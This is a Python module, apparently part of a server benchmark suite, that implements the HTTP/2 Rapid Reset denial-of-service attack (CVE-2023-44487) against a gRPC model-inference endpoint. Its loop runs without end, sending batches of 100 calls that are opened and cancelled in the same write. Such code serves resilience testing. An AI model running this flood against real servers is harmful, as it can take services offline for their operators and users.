"""Calls that are cancelled immediately after they are made (CVE-2023-44487)."""

from __future__ import annotations

import numpy as np

from benchmarks.attacks.site import Attack, Site
from benchmarks.attacks.wire import H2Wire
from penstock.perf.grpc_client import framed
from penstock.perf.oip_client import infer_message
from penstock.protocol import h2_frames as h2

_CALLS = 100


async def _rapid_reset(site: Site) -> None:
    message = framed(infer_message("identity", {"input": np.zeros((1, 32), np.float32)}))
    async with H2Wire(site) as wire:
        await wire.open()
        while True:
            calls = []
            for _ in range(_CALLS):
                stream, head = wire.call("ModelInfer")
                data = h2.frame(h2.DATA, h2.END_STREAM, stream, message)
                calls.append(head + data + h2.rst_stream(stream, h2.ErrorCode.CANCEL))
            await wire.send(b"".join(calls))
            site.count("calls reset", _CALLS)


RESETS = {"rapid-reset": Attack("calls that are reset in the same write", _rapid_reset)}
